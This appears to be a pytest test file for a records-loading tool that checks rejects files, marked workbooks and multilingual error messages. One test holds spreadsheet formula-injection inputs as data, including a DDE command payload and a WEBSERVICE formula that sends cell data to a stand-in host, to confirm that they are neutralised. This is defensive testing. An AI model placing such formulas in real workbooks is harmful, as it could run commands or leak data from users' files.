"""What files hold beside good facts: each fault is said once, at its place; what is given back is whole and refused again."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tests.conftest import Desk

HEAD = "incident,unit,kind,date,channel,text\n"
GOOD = "g1,L1,petition,2012-03-05,written,ok\n"
Lines = list[list[object]]


def _book(desk: Desk, name: str, sheets: dict[str, Lines], change: Callable[[Workbook], object] = lambda book: None) -> str:
    book = Workbook()
    book.remove(book.worksheets[0])
    for title, lines in sheets.items():
        sheet = book.create_sheet(title)
        for line in lines:
            sheet.append(line)
    change(book)
    book.save(desk.folder / name)
    return str(desk.folder / name)


def _csv(path: str) -> list[list[str]]:
    return list(csv.reader(StringIO(Path(path).read_bytes().decode(), newline="")))


def _comments(path: str, sheet: str) -> dict[str, str]:
    cells = [cell for line in load_workbook(path)[sheet].iter_rows() for cell in line]
    return {cell.coordinate: cell.comment.text for cell in cells if cell.comment is not None}


def _json(**cells: object) -> str:
    return (
        json.dumps({"incident": "i1", "unit": "L1", "kind": "petition", "date": "2012-03-05", "channel": "written", **cells})
        + "\n"
    )


# rejects hold every cell, or are refused


@pytest.mark.parametrize(
    ("text", "endings"),
    [
        ("a\uffffb", {".xlsx"}),
        ("a\x01", {".xlsx"}),
        ("\ud83d", {".xlsx", ".csv"}),
        ("长" * 40_000, {".xlsx"}),
        ("_x0041_" * 5_000, {".xlsx"}),
        ("_x0041_ a\rb\r\nc ", set()),
    ],
    ids=range(6),
)
def test_what_a_format_cannot_hold_is_refused_at_its_cell_and_nothing_is_loaded(
    office: Desk, text: str, endings: set[str]
) -> None:
    facts = office.write("incidents.jsonl", _json(date="x", text=text) + _json(incident="i2"))
    before = Path("conduct.db").read_bytes()
    for ending in endings:
        outcome = office("load", facts, "--rejects", f"incidents-r{ending}")
        assert outcome.status == 1
        assert f"incidents.jsonl, row 1, column text: a file that ends in {ending} cannot hold this cell" in outcome.err
        assert "row 1, column date" in outcome.err
        assert "name a rejects file that ends in .jsonl" in outcome.err
        assert Path("conduct.db").read_bytes() == before
    assert not [path for path in office.folder.iterdir() if path.name.startswith("incidents-")]
    for ending in {".csv", ".xlsx", ".jsonl"} - endings:
        Path("conduct.db").write_bytes(before)
        assert office("load", facts, "--rejects", f"incidents-r{ending}").status == 0
        assert office("load", f"incidents-r{ending}", "--rejects", "incidents-again.jsonl").status == 0
        assert json.loads(Path("incidents-again.jsonl").read_text(encoding="utf-8"))["text"] == text


def test_a_formula_is_held_by_a_workbook_alone(office: Desk) -> None:
    lines: Lines = [["incident", "unit", "kind", "date", "channel", "text"], ["i1", "L1", "late", "2012-03-05", None, "=1+1"]]
    book = _book(office, "b.xlsx", {"incidents": lines})
    outcome = office("load", book, "--rejects", "incidents-r.csv")
    assert outcome.status == 1
    assert "b.xlsx[incidents], row 2, column text: a file that ends in .csv cannot hold this cell" in outcome.err
    assert "name a rejects file that ends in .xlsx" in outcome.err


def test_a_return_alone_comes_back_from_exports(office: Desk) -> None:
    assert office("load", office.write("incidents.jsonl", _json(text="a\rb"))).status == 0
    assert office("export", "--csv", "out").status == 0
    again = office("load", "out/incidents.csv")
    assert again.status == 0, again.err
    assert "1 row stood in the ledger already" in again.err


def test_a_return_alone_in_a_name_stays_in_its_row_of_the_standings(office: Desk) -> None:
    assert office("load", office.write("units-2.jsonl", '{"unit": "L9", "name": "a\\rb", "kind": "life"}')).status == 0
    more = "".join(f"L9,{m},2012,{n}\n" for m, n in (("outlets", 10), ("premium", 100)))
    assert office("load", office.write("measures-2.csv", "unit,measure,period,value\n" + more)).status == 0
    outcome = office("run", "--period", "2012", "--format", "csv")
    rows = list(csv.reader(StringIO(outcome.out, newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert ["L9", "a\rb"] in [row[:2] for row in rows]


def test_surplus_cells_come_back_under_no_header_and_the_row_is_refused_again(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + "i1,L1,petition,2012-03-05,written,three men, one window,=x\n")
    for ending in (".csv", ".jsonl", ".xlsx"):
        assert office("load", facts, "--rejects", f"incidents-r{ending}").status == 0
        again = office("load", f"incidents-r{ending}")
        assert again.status == 1
        assert again.err.count("the column of this cell has no header") == 2
    assert _csv("incidents-r.csv") == [
        ["incident", "unit", "kind", "date", "channel", "text", "", "", "errors"],
        [
            "i1",
            "L1",
            "petition",
            "2012-03-05",
            "written",
            "three men",
            " one window",
            "'=x",
            "the row has 8 cells, the header only 6",
        ],
    ]


def test_a_row_may_lack_its_last_cells_where_they_are_empty(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + "i1,L1,petition,2012-03-05,written\ni2,L1,petition,x\n")
    assert office("load", facts, "--rejects", "incidents-r.csv").status == 0
    assert [row[:4] for row in _csv("incidents-r.csv")[1:]] == [["i2", "L1", "petition", "x"]]
    assert "1 row stood in the ledger already" in office("load", facts, "--rejects", "incidents-r2.csv").err


def test_rejects_of_files_with_other_headers_have_one_column_for_each(office: Desk) -> None:
    office.write("conduct.toml", '[columns]\n"序号" = ""\n')
    english = office.write(
        "incidents-1.csv", "incident,序号,unit,kind,date,channel,序号\ni1,first,L1,petition,2012-03-0x,written,second\n"
    )
    chinese = office.write("incidents-2.csv", "事项,渠道,单位,类别,日期,内容\ni2,书面,L1,信访件,2012-03-0x,文\n")
    assert office("load", english, chinese, "--rejects", "incidents-r.csv").status == 0
    assert [row[:-1] for row in _csv("incidents-r.csv")] == [
        ["incident", "序号", "unit", "kind", "date", "channel", "序号", "内容"],
        ["i1", "first", "L1", "petition", "2012-03-0x", "written", "second", ""],
        ["i2", "", "L1", "信访件", "2012-03-0x", "书面", "", "文"],
    ]
    for name in ("incidents-r.jsonl", "r.xlsx"):
        assert office("load", english, chinese, "--rejects", name).status == 0
        assert office("load", name).err.count("is no date") == 2
    mended = Path("incidents-r.csv").read_text(encoding="utf-8").replace("-0x,", "-05,")
    outcome = office("load", office.write("incidents-m.csv", mended))
    assert outcome.status == 0, outcome.err
    assert "loaded: 2 incidents" in outcome.err


def test_a_guarded_cell_comes_back_as_it_is_meant(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + "i1,L1,petition,x,written,'=1+1\n")
    assert office("load", facts, "--rejects", "r.xlsx").status == 0
    assert load_workbook("r.xlsx")["incidents"]["F2"].value == "=1+1"


def test_reasons_that_no_cell_holds_are_cut_and_no_fact_is(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + f"i1,L1,{'x' * 20_000},{'y' * 20_000},written,\n")
    assert office("load", facts, "--rejects", "r.xlsx").status == 0
    assert [len(str(cell.value or "")) for cell in load_workbook("r.xlsx")["incidents"][2]] == [
        2,
        2,
        20_000,
        20_000,
        7,
        0,
        32_767,
    ]
    assert office("load", "r.xlsx").status == 1


def test_a_fault_of_a_whole_file_hides_none_of_its_rows(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + GOOD.replace("-05", "-0x") + 'i2,L1,petition,2012-03-05,written,"a"b\n')
    outcome = office("load", facts, "--rejects", "r.xlsx", "--marked", "m.xlsx")
    assert outcome.status == 1
    assert [line.split(":")[0] for line in outcome.err.splitlines()[1:]] == [
        "incidents.csv, row 2, column date",
        "incidents.csv, row 3",
    ]
    assert set(_comments("m.xlsx", "incidents")) == {"D2", "A3"}


def test_rejected_rows_are_marked_as_well_and_the_two_files_are_two(office: Desk) -> None:
    facts = office.write("incidents.csv", HEAD + GOOD + "i2,L9,petition,2012-03-05,written,\n")
    assert office("load", facts, "--rejects", "r.xlsx", "--marked", "r.xlsx").status == 1
    outcome = office("load", facts, "--rejects", "r.xlsx", "--marked", "m.xlsx")
    assert outcome.status == 0, outcome.err
    assert "loaded: 1 incident" in outcome.err
    assert _comments("m.xlsx", "incidents") == {"B3": "there is no unit “L9”"}
    before = Path("conduct.db").read_bytes()
    outcome = office(
        "load", facts, office.write("units-2.csv", "unit,name,kind\nN,n,life\n"), "--rejects", "r.xlsx", "--marked", "no/m.xlsx"
    )
    assert outcome.status == 1
    assert "no unit “L9”" in outcome.err
    assert outcome.err.count("no/m.xlsx cannot be written") == 1
    assert Path("conduct.db").read_bytes() == before


# marked workbooks


def test_a_marked_workbook_that_cannot_be_written_hides_no_fault(office: Desk) -> None:
    outcome = office("load", office.write("incidents.csv", HEAD + GOOD.replace("-05", "-0x")), "--marked", "none/m.xlsx")
    assert outcome.status == 1
    first, second = outcome.err.splitlines()
    assert "row 2, column date" in first
    assert "m.xlsx cannot be written" in second


def test_a_file_that_breaks_off_comes_back_line_by_line_and_is_refused_again(office: Desk) -> None:
    good = 'g1,L1,petition,2012-03-05,written,"two\nlines"\n'
    lines = ['i2,L1,petition,2012-03-05,written,"a"b', "i3,L1,petition,2012-03-06,visit,x"]
    assert office("load", office.write("incidents.csv", HEAD + good + "\n".join(lines)), "--marked", "m.xlsx").status == 1
    sheet = load_workbook("m.xlsx")["incidents"]
    assert [sheet[f"A{n}"].value for n in (2, 3, 4)] == ["g1", *lines]
    assert list(_comments("m.xlsx", "incidents")) == ["A3"]
    assert office("load", "m.xlsx").status == 1


def test_a_header_that_breaks_off_comes_back_as_well(office: Desk) -> None:
    assert office("load", office.write("incidents.csv", 'incident,"unit"x\na,b\n'), "--marked", "m.xlsx").status == 1
    sheet = load_workbook("m.xlsx")["incidents"]
    assert [sheet["A1"].value, sheet["A2"].value] == ['incident,"unit"x', "a,b"]
    assert list(_comments("m.xlsx", "incidents")) == ["A1"]


def _shared(path: str) -> None:
    """Writes the formulas of F2 and F3 as a spreadsheet does that filled one down from the other."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    part = parts["xl/worksheets/sheet1.xml"]
    part = part.replace(b"<f>A2&amp;B2</f>", b'<f t="shared" ref="F2:F3" si="0">A2&amp;B2</f>').replace(
        b"<f>A3&amp;B3</f>", b'<f t="shared" si="0"/>'
    )
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in {**parts, "xl/worksheets/sheet1.xml": part}.items():
            archive.writestr(name, content)


@pytest.mark.parametrize("how", ["--marked", "--rejects"])
def test_formulas_and_errors_come_back_as_what_they_were_and_never_reach_out(office: Desk, how: str) -> None:
    out = ["=elsewhere!A1", "=cmd|'/c calc'!A1", "=[1]x!A1", '=WEBSERVICE("http://x.example/"&A2)', '=RTD("x",,"y")']
    texts = ["=A2&B2", "=A3&B3", "#N/A", "=incidents!A2", *out]
    lines: Lines = [["incident", "unit", "kind", "date", "channel", "text"]]
    lines += [[f"i{n}", "L1", "petition", "2012-03-05", "written", text] for n, text in enumerate(texts)]
    book = _book(office, "b.xlsx", {"incidents": lines})
    _shared(book)
    office("load", book, how, "again.xlsx")
    sheet = load_workbook("again.xlsx")["incidents"]
    back = [(sheet[f"F{n}"].value, sheet[f"F{n}"].data_type) for n in range(2, 11)]
    if how == "--marked":  # what reaches for anything outside comes as its text
        assert back == [("=A2&B2", "f"), ("=A3&B3", "f"), ("#N/A", "e"), ("=incidents!A2", "f"), *[(text, "s") for text in out]]
        assert "its text stands here, and is not worked out" in _comments("again.xlsx", "incidents")["F6"]
        assert office("load", "again.xlsx").err.count("column text") == 4
    else:
        assert back == [("=A2&B2", "f"), ("=A3&B3", "f"), ("#N/A", "e"), *[("#REF!", "e")] * 6]
        assert "=elsewhere!A1" in str(sheet["G6"].value)
        assert office("load", "again.xlsx").err.count("column text") == 9


def test_text_that_begins_like_a_formula_stays_text(office: Desk) -> None:
    facts = office.write("incidents.jsonl", _json(date="x", text="=1+1"))
    assert office("load", facts, "--marked", "m.xlsx").status == 1
    cell = load_workbook("m.xlsx")["incidents"]["F2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_the_comment_on_a_column_that_the_sheet_lacks_names_it(office: Desk) -> None:
    facts = office.write("actions.csv", "action,step,date,unit\nt1,reception-day,2012-03-05,L1\n")
    outcome = office("load", facts, "--marked", "m.xlsx", lang="zh")
    assert "actions.csv，第2行，“总经理室成员接访”列：" in outcome.err
    assert [line.split("：")[0] for line in _comments("m.xlsx", "actions")["A2"].splitlines()] == [
        "接待日期", "总经理室成员接访",
    ]  # fmt: skip


# all that is wrong, and nothing that follows from it


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("units.csv", "unit,name,kind\nN1,n,life\n".encode("utf-16")),
        ("units.csv", b"\n\nunit,name,kind\nN1,n,life\n"),
        ("units.csv", "2012年单位表,,\nunit,name,kind\nN1,n,life\n".encode()),
        ("units.csv", b'unit,name,kind\nN0,"a"b,life\nN1,n,life\n'),
        ("units.csv", b"unit,name,kind\nN1,n\n"),
        ("units.jsonl", b'{"unit": "N1", "name": "n", "kind": "li\n'),
        ("people.csv", b"unit,name,kind\nN1,n,life\n"),
        ("units.xlsx", b"no workbook"),
    ],
    ids=range(8),
)
def test_what_cannot_be_read_makes_no_faults_of_the_rows_that_name_it(office: Desk, name: str, content: bytes) -> None:
    outcome = office("load", office.write(name, content), office.write("incidents.csv", HEAD + GOOD.replace("L1", "N1")))
    assert outcome.status == 1
    assert len(outcome.err.splitlines()) == 1
    assert outcome.err.startswith(name)


def test_a_missing_file_makes_no_faults_either_and_other_tables_are_judged(office: Desk) -> None:
    incidents = office.write("incidents.csv", HEAD + GOOD.replace("L1", "N1"))
    assert office("load", "units-2012.csv", incidents).err.splitlines() == ["there is no file units-2012.csv"]
    assert "there is no unit “N1”" in office("load", "measures-2012.csv", incidents).err


def test_an_id_that_is_a_formula_makes_no_faults_and_is_itself_said(office: Desk) -> None:
    sheets: dict[str, Lines] = {
        "units": [["unit", "name", "kind"], ['="N"&1', "n", "life"]],
        "incidents": [
            ["incident", "unit", "kind", "date"],
            ["i1", "N1", "late", "2012-03-05"],
            ["i2", "=A2", "late", "2012-03-05"],
        ],
    }
    outcome = office("load", _book(office, "b.xlsx", sheets))
    assert [line.split(":")[0] for line in outcome.err.splitlines()] == [
        "b.xlsx[units], row 2, column unit",
        "b.xlsx[incidents], row 3, column unit",
    ]


@pytest.mark.parametrize("title", [["2012年登记表"], ["2012年登记表", None, None]])
def test_a_title_above_the_header_is_said_once(office: Desk, title: list[object]) -> None:
    lines: Lines = [title, ["单位", "名称", "类别"], *([f"V{n}", "v", "寿险"] for n in range(50))]
    outcome = office("load", _book(office, "b.xlsx", {"单位": lines}))
    assert outcome.status == 1
    assert outcome.err.startswith("b.xlsx[单位], row 1: the header of units seems to stand in row 2: say so under [header]")
    assert len(outcome.err.splitlines()) == 1


def test_a_faulty_sheet_hides_no_other_and_comes_back_as_well(office: Desk) -> None:
    sheets: dict[str, Lines] = {
        "汇总": [["合计"]],
        "事项": [["事项", "单位", "类别", "日期", "渠道"], ["j1", "L1", "信访件", "2012-3-0x", "书面"]],
        "办理动作": [[], ["动作", "x"]],
        "指标": [["单位", "=A1", "考核期", "数值"], ["L1", "outlets", "2012", "1"]],
    }
    outcome = office("load", _book(office, "b.xlsx", sheets, lambda b: b["指标"].merge_cells("C1:D1")), "--marked", "m.xlsx")
    assert outcome.status == 1
    assert sorted(line.split(":")[0] for line in outcome.err.splitlines()[1:]) == [
        "b.xlsx[事项], row 2, column 日期",
        "b.xlsx[办理动作], row 2",
        "b.xlsx[指标], row 1",
        "b.xlsx[指标], row 1, column B",
        "b.xlsx[汇总]",
    ]
    book = load_workbook("m.xlsx")
    assert book.sheetnames == ["errors", "汇总", "事项", "办理动作", "指标"]
    assert [book["指标"]["B1"].value, book["指标"]["B2"].value] == ["=A1", "outlets"]
    marks = {title: set(_comments("m.xlsx", title)) for title in book.sheetnames[1:]}
    assert marks == {"汇总": {"A1"}, "事项": {"D2"}, "办理动作": {"A2"}, "指标": {"A1", "B1"}}


def test_a_line_that_is_no_row_hides_no_other_and_comes_back_as_it_is(office: Desk) -> None:
    lines = [
        _json(incident="i1"),
        _json(incident="i2", text=["a"], date="2012-03-0x"),
        _json(incident="i3").replace('"unit": "L1"', '"unit": "L1", "unit": "L2"'),
        "{bad\n",
        _json(incident="i4", unit="NO"),
    ]
    facts = office.write("incidents.jsonl", "".join(lines))
    outcome = office("load", facts, lang="zh")
    assert [line.split("：")[0] for line in outcome.err.splitlines()] == [
        "incidents.jsonl，第2行，“date”列",
        "incidents.jsonl，第2行，“text”列",
        "incidents.jsonl，第3行，“unit”列",
        "incidents.jsonl，第4行",
        "incidents.jsonl，第5行，“unit”列",
    ]
    before = Path("conduct.db").read_bytes()
    for name in ("incidents-r.csv", "r.xlsx", "incidents-r.jsonl"):
        Path("conduct.db").write_bytes(before)
        taken = office("load", facts, "--rejects", name, "--marked", "m.xlsx")
        assert taken.status == 0, taken.err
        assert "loaded: 1 incident" in taken.err
        again = office("load", name)
        assert (again.status, "loaded" in again.err) == (1, False)
    assert [row[1] for row in _csv("incidents-r.csv")[1:]] == [*(line.rstrip("\n") for line in lines[1:4]), "i4"]
    sheet = load_workbook("m.xlsx")["incidents"]
    assert [sheet[f"A{n}"].value for n in (2, 3, 5)] == ["i1", lines[1].rstrip("\n"), "{bad"]
    assert office("load", "m.xlsx").status == 1


def test_a_file_of_which_no_line_is_a_row_is_rejected_line_by_line(office: Desk) -> None:
    facts = office.write("incidents.jsonl", "{bad\n[1]\n")
    outcome = office("load", facts, "--rejects", "r.xlsx")
    assert outcome.status == 0, outcome.err
    sheet = load_workbook("r.xlsx")["incidents"]
    assert [sheet["A2"].value, sheet["A3"].value] == ["{bad", "[1]"]
    assert office("load", "r.xlsx").status == 1


def test_what_else_is_wrong_with_a_faulty_row_is_said_at_once(office: Desk) -> None:
    incidents = office.write("incidents.csv", HEAD + GOOD)
    actions = office.write("actions.csv", "action,step,date,incident,points\na1,decide,2012-03-0x,g1,5\n")
    step = "actions.csv, row 2, column step: the step “decide” is not taken on petition"
    assert step in office("load", incidents, actions).err
    incidents = office.write("incidents.csv", HEAD + GOOD.replace("-05", "-0x"))
    assert step in office("load", incidents, actions).err
    good = office.write("actions.csv", "action,step,date,incident,points\na1,decide,2012-03-05,g1,5\n")
    assert step in office("load", incidents, good).err
    about = office.write("incidents.csv", "incident,unit,kind,date,about\nl0,L1,late,2012-03-05,\nl1,L1,late,2012-03-0x,l0\n")
    assert "row 3, column about: the incident “l0” is of the wrong kind" in office("load", about).err


def test_a_unit_of_the_wrong_kind_is_said_of_faulty_rows_too(desk: Desk) -> None:
    power = ("--sector", "power_utility")
    assert desk(*power, "init").status == 0
    units = "unit,name,kind,parent,head,from\nS1,站,station,,H1,\nH1,张,station,S1,,x\n"
    outcome = desk(*power, "load", desk.write("units.csv", units))
    assert "row 3, column from" in outcome.err
    assert "row 2, column head: the unit “H1” is of the wrong kind" in outcome.err


def test_a_faulty_row_that_stands_with_other_content_is_said_to(office: Desk) -> None:
    assert office("load", office.write("incidents.csv", HEAD + GOOD)).status == 0
    outcome = office("load", office.write("incidents.csv", HEAD + GOOD.replace("-05", "-0x").replace("ok", "other")))
    assert "g1 stands in the ledger with other content (text)" in outcome.err
    outcome = office("load", office.write("incidents.csv", HEAD + GOOD.replace("-05", "-0x")))
    assert "other content" not in outcome.err


@pytest.mark.parametrize("blank", ["\u3000", "\u00a0", " ", "\u2003"])
def test_a_row_of_blanks_of_any_width_is_empty(office: Desk, blank: str) -> None:
    outcome = office("load", office.write("incidents.csv", f"{HEAD}{blank},,,,,\n{GOOD},,{blank},,,\n"))
    assert outcome.status == 0, outcome.err
    assert "loaded: 1 incident" in outcome.err


@pytest.mark.parametrize(("cell", "status"), [("", 0), ("\u3000", 0), ("IMPORTANT", 1)])
def test_a_filled_cell_under_no_header_is_an_error(office: Desk, cell: str, status: int) -> None:
    text = f"incident,unit,kind,date,channel,,text\nr1,L1,petition,2012-03-05,written,{cell},x\n"
    outcome = office("load", office.write("incidents.csv", text))
    assert outcome.status == status
    assert ("incidents.csv, row 2, column F: the column of this cell has no header" in outcome.err) == bool(status)


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
def test_what_json_does_not_know_is_refused(office: Desk, value: str) -> None:
    line = _json().replace('"i1"', value)
    assert (
        f"row 1: this is no well-formed JSON: {value} is no JSON value"
        in office("load", office.write("incidents.jsonl", line)).err
    )


def test_a_number_of_any_size_is_text(office: Desk) -> None:
    outcome = office("load", office.write("incidents.jsonl", _json(text=1).replace(": 1}", ": 1e99999999999999999999}")))
    assert outcome.status == 0, outcome.err
    assert "1e99999999999999999999" in office("export", "--csv", "out").err + Path("out/incidents.csv").read_text(
        encoding="utf-8"
    )


def test_parsers_reasons_and_columns_are_said_in_chinese(office: Desk) -> None:
    broken = office.write("incidents.csv", HEAD + '"x\n')
    assert "文件在引号之内结束" in office("load", broken, lang="zh").err
    line = office.write("incidents-2.jsonl", "{bad\n")
    assert "不是完整的 JSON：第2个字符处读不下去，此处应是双引号中的键" in office("load", line, lang="zh").err
    lacking = office.write("incidents-3.csv", "事项,单位,日期,颜色\ni1,L1,2012-03-05,红\n")
    assert office("load", lacking, lang="zh").err.splitlines() == [
        "incidents-3.csv，第1行，“颜色”列：“事项”没有“颜色”列；可用：事项、单位、类别、日期、内容、投诉人、来源、渠道、快速处理并撤回、信访人不配合、所涉信访。"
        "本单位自己的表头请在 conduct.toml 的 [columns.incidents] 中对应到某列，或对应到空值而不读",
        "incidents-3.csv，第1行，“类别”列：缺少必需的列“类别”（kind）；"
        "各行都一样的，可写在 conduct.toml 的 [constants.incidents] 中",
    ]
    given = ("record", "incident", "incident=i1", "unit=L1", "kind=petition", "date=2012-03-05")
    assert "“渠道”列：信访件（petition）必须填写此格" in office(*given, lang="zh").err


# names that are no text


@pytest.mark.skipif(sys.platform != "linux", reason="other systems take no such names")
def test_a_files_name_may_be_any_bytes_and_other_arguments_are_text(office: Desk) -> None:
    name = "incidents-投诉.csv".encode("gbk")
    Path(os.fsdecode(name)).write_text(HEAD + GOOD, encoding="utf-8")
    conduct = [os.fsencode(sys.executable), b"-m", b"conduct", b"--sector", b"insurance", b"--lang", b"en"]

    def run(*arguments: bytes) -> tuple[int, bytes]:
        done = subprocess.run([*conduct, *arguments], capture_output=True, check=False)
        return done.returncode, done.stdout + done.stderr

    assert run(b"load", name) == (0, b"loaded: 1 incident\n")
    assert b"incidents-\xcd\xb6\\xcb\\xdf.csv" in run(b"history", b"g1")[1]
    assert run(b"verify")[0] == 0
    for arguments in ([b"history", b"\xcb\xdf"], [b"case", b"\xcb\xdf"], [b"load", name, b"--correct", b"\xcb\xdf"]):
        status, said = run(*arguments)
        assert status == 2
        assert b"is no text in UTF-8" in said
